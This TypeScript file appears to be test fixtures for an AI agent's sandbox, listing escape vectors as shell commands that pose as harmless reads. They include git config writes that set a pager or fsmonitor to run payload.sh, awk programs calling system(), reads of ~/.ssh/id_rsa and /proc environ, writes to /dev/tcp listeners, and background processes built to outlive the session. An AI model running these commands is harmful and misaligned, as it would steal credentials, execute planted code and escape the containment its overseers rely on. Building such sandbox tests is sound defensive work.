/** Known escape attempts: commands that look like reads but do more, with the files they need. */

export interface Vector {
  name: string;
  /** In one step of one turn: later ones see what earlier ones wrote. */
  commands: readonly string[];
}

export const vectors: readonly Vector[] = [
  { name: "make version beside a planted Makefile", commands: ["make version", "make -n version"] },
  {
    name: "git log that writes the repository's configuration",
    commands: [
      "git log --format='%n[core]%n\tpager = sh payload.sh -S' --output=.git/config",
      "git -p log -1",
      "git log --format='… -S' --output=.git/config",
      "git status",
    ],
  },
  {
    name: "a quoted wrapper with a signal's name",
    commands: ["'timeout' -ssys 5 bash pwd", "'timeout' -ssys 5 bash payload.sh"],
  },
  {
    name: "printf %n that sets git's environment",
    commands: [
      "printf '%n' GIT_CONFIG_COUNT; git status",
      "export GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=./payload.sh; printf 'x%n' GIT_CONFIG_COUNT; git status",
    ],
  },
  {
    name: "awk whose separator hides its program",
    commands: [
      `awk -F': {print}' 'BEGIN{print"x">"f"}'`,
      `awk -F': {print}' 'BEGIN{print"x">"@OUTSIDE@/@MARK@"}'`,
      `awk -F': {print}' 'BEGIN{system("sh payload.sh")}'`,
    ],
  },
  { name: "xxd with a glob that names its output", commands: ["touch v2", "xxd v?", "xxd a.txt link-absolute"] },
  {
    name: "reading outside the folder",
    commands: [
      "cat @OUTSIDE@/secret.txt ../outside/secret.txt link-absolute link-relative link-root link-folder/secret.txt",
      "cat @HOME@/.ssh/id_rsa @WORKSPACE@/canary.txt @DATA@/canary.txt @CONFIG@ /proc/@BOT@/environ",
      "cat '@WORKSPACE@/files/channel:general/secret.txt'",
      "cat /proc/*/environ /proc/*/cmdline; ls -laR /tmp /root /home /dev/shm",
    ],
  },
  {
    name: "sending to a listener",
    commands: [
      "echo x > /dev/tcp/127.0.0.1/@TCP@; echo x > /dev/tcp/@ADDRESS@/@TCP@; echo x > /dev/udp/@ADDRESS@/@UDP@",
      "curl -s -m 2 --abstract-unix-socket @ABSTRACT@ http://x/; curl -s -m 2 --unix-socket socket http://x/",
      "timeout 1 sh -c 'echo x > pipe'",
    ],
  },
  {
    name: "staying behind",
    commands: [
      "setsid sleep 600 > /dev/null 2>&1 < /dev/null & nohup sleep 600 > /dev/null 2>&1 &",
      "for i in $(seq 200); do sleep 600 & done",
      "python3 -c 'import os,time; [os.fork() for _ in range(6)]; os.setsid(); time.sleep(0)'",
    ],
  },
  {
    name: "planted programs, hooks, filters and configuration",
    commands: [
      "PATH=.:$PATH; ls; cat a.txt; git status; make; id",
      "./git status; ./ls",
      "git diff; git log -p -1; git show HEAD; git st; git add -A; git commit -m x; git stash",
      "npm test",
      "source .envrc; . ./.bashrc; vim -Nes -u .vimrc -c 'q!' a.txt; gdb -batch -x .gdbinit",
      "python3 -c 'import json'; python3 setup.py",
      "tar cf /dev/null *; rm -f *",
    ],
  },
];
